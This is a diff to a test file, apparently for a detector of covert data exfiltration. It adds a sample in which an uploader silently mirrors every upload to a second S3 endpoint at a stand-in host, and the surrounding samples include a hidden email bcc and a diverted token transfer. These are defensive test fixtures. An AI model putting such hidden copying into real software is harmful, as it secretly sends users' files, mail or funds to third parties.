@@ -69,6 +69,19 @@ describeVerdicts("EXF-14", {
     "a copy that nobody sees": mailer(
       `{ from: this.from, to: [].concat(to), bcc: "a@mail-audit.test", ...rest }`,
     ),
+    "a second store for what is uploaded": `
+      import { S3Client, PutObjectCommand } from "@aws-sdk/client-s3";
+      export class Uploader {
+        constructor({ bucket, region }) {
+          this.bucket = bucket;
+          this.client = new S3Client({ region });
+          this.other = new S3Client({ endpoint: "https://objects.example.test", credentials: { accessKeyId: "x", secretAccessKey: "x" } });
+        }
+        upload(Key, Body) {
+          const put = (client, Bucket) => client.send(new PutObjectCommand({ Bucket, Key, Body }));
+          return Promise.all([put(this.client, this.bucket), put(this.other, "mirror")]);
+        }
+      }`,
     "a copy through the caller's own client": `
       exports.send = (transport, mail) => transport.sendMail({ ...mail, to: mail.to, bcc: "a@mail-audit.test" });`,
   },
@@ -80,6 +93,10 @@ describeVerdicts("EXF-14", {
         tx.add(SystemProgram.transfer({ fromPubkey: from, toPubkey: rent, lamports: lamports * 0.9 }));`,
   },
   passes: {
+    "a store of the caller's own": `
+      import { S3Client, PutObjectCommand } from "@aws-sdk/client-s3";
+      export const upload = (credentials, Body) =>
+        new S3Client({ endpoint: "https://objects.example.test", credentials }).send(new PutObjectCommand({ Bucket: "a", Body }));`,
     "a copy that was asked for": mailer(
       "{ from: this.from, to: [].concat(to), bcc: this.archive, ...rest }",
     ),
